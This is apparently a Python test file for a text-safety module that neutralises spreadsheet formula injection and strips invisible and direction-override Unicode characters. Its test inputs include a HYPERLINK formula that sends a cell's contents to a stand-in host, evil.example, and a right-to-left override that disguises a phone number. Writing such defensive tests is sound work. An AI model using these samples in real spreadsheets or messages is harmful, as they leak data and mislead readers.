"""Invisible characters and spreadsheet cells (locator.text_safety)."""

import re

from hypothesis import given
from hypothesis import strategies as st

from locator.text_safety import from_spreadsheet_cell, has_invisible, spreadsheet_cell, without_invisible


def test_a_formula_becomes_text_and_a_number_stays_a_number():
    assert spreadsheet_cell('=HYPERLINK("http://evil.example/?"&A1,"Call now")').startswith("'=HYPERLINK")
    for formula in ("+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "+1 (215) 555-0100"):
        assert spreadsheet_cell(formula) == "'" + formula
    for plain in ("-75.16", "+3", "39.95", "1e5", "Clinic = care", "", "'quoted"):
        assert spreadsheet_cell(plain) == plain
    assert spreadsheet_cell(-75.16) == -75.16 and spreadsheet_cell(None) is None


def test_apostrophes_before_a_formula_are_kept_apart_from_the_one_added():
    assert spreadsheet_cell("'=1") == "''=1"
    assert from_spreadsheet_cell("''=1") == "'=1" and from_spreadsheet_cell("'quoted") == "'quoted"


@given(st.text(max_size=30))
def test_a_cell_written_and_read_again_is_unchanged(text):
    assert from_spreadsheet_cell(spreadsheet_cell(text)) == text


@given(st.text(alphabet="=+-@'\t\r0123456789.eE ab", max_size=12))
def test_no_written_text_cell_runs_as_a_formula(text):
    cell = spreadsheet_cell(text)
    # Only a plain number (scientific notation too: "+0E0" is the number 0) may start with + or -.
    assert not cell.startswith(("=", "+", "@", "\t", "\r")) or \
        re.fullmatch(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", cell)


def test_invisible_and_direction_characters_are_found_and_removed():
    reversed_phone = "Call \u202e0010-555-512\u202c now"
    assert has_invisible(reversed_phone) and without_invisible(reversed_phone) == "Call 0010-555-512 now"
    for ch in ("\u200b", "\u200f", "\u202a", "\u2066", "\u2069", "\ufeff"):
        assert has_invisible(f"a{ch}b") and without_invisible(f"a{ch}b") == "ab"
    assert not has_invisible("Clínica Niño – 24/7 ✓")
